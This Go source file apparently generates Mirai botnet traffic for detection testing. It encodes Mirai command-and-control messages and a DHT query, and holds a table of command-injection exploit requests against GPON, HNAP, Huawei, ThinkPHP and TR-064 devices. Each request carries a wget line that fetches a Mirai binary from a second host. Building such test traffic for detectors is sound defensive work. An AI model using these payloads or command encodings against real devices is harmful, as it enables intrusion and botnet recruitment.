package message

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// MiraiLogin is the first thing that Mirai's bot sends to its server; the length
// and text of its id follow (detection.md §A1).
func MiraiLogin() []byte { return []byte{0, 0, 0, 1} }

// MiraiID is the rest of the log-in.
func MiraiID(id string) []byte { return append([]byte{byte(len(id))}, id...) }

// MiraiAlive is the keep-alive, sent every minute and echoed.
func MiraiAlive() []byte { return []byte{0, 0} }

// MiraiCommand tells a bot to attack one address for a time: length, seconds,
// vector, targets with their masks, one option, the port.
func MiraiCommand(length time.Duration, vector byte, target netip.Addr, port uint16) []byte {
	body := be.AppendUint32(nil, uint32(length/time.Second))
	body = append(append(body, vector, 1), target.AsSlice()...)
	text := fmt.Sprint(port)
	body = append(body, 32, 1, 7, byte(len(text)))
	body = append(body, text...)
	return append(be.AppendUint16(nil, uint16(2+len(body))), body...)
}

// MiraiReport tells where a password was guessed: address, port, name, password.
func MiraiReport(host netip.AddrPort, user, password string) []byte {
	b := append([]byte{0}, host.Addr().AsSlice()...)
	b = be.AppendUint16(b, host.Port())
	b = append(append(b, byte(len(user))), user...)
	return append(append(b, byte(len(password))), password...)
}

// DHTFind asks a node of BitTorrent's DHT for those close to target (BEP 5).
func DHTFind(r *rand.Rand, id, target [20]byte) []byte {
	b := append([]byte("d1:ad2:id20:"), id[:]...)
	b = append(append(b, "6:target20:"...), target[:]...)
	b = append(b, "e1:q9:find_node1:t2:"...)
	return append(random(r, b, 2), "1:y1:qe"...)
}

// Exploit is a request that makes old devices run a command, as worms send it.
// What the command is stays a word or a download that leads nowhere.
type Exploit struct {
	Name string
	Port uint16

	method, path, headers, body string
}

// Request is the exploit for a device at host, to fetch from there.
func (e *Exploit) Request(host, from netip.Addr) []byte {
	fetch := "wget+http://" + from.String() + "/bins/mirai.mips+-O+/tmp/m"
	path, body := e.path, e.body
	if body == "" {
		path += fetch
	} else {
		body = fmt.Sprintf(body, fetch)
	}
	return HTTPAsk(e.method, host.String(), path, "Hello, World", e.headers, body)
}

// Exploits are the holes that worms have knocked at for years: CVE-2018-10561,
// CVE-2015-2051, CVE-2017-17215, CVE-2018-20062 and the TR-064 clock of 2016
// (detection.md §A2). The bodies are abridged: they name the hole and no more.
var Exploits = []Exploit{
	{"gpon", 8080, "POST", "/GponForm/diag_Form?images/", "Content-Type: application/x-www-form-urlencoded\r\n",
		"XWebPageName=diag&diag_action=ping&dest_host=`%s`"},
	{"hnap", 80, "POST", "/HNAP1/", "SOAPAction: \"http://purenetworks.com/HNAP1/`/bin/busybox`\"\r\nContent-Type: text/xml\r\n",
		"<x>%s</x>"},
	{"huawei", 37215, "POST", "/ctrlt/DeviceUpgrade_1", "Content-Type: text/xml\r\n",
		"<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox %s)</NewStatusURL></u:Upgrade>"},
	{"thinkphp", 8080, "GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=", "", ""},
	{"tr064", 7547, "POST", "/UD/act?1", "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\n",
		"<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`%s`</NewNTPServer1></u:SetNTPServers>"},
}
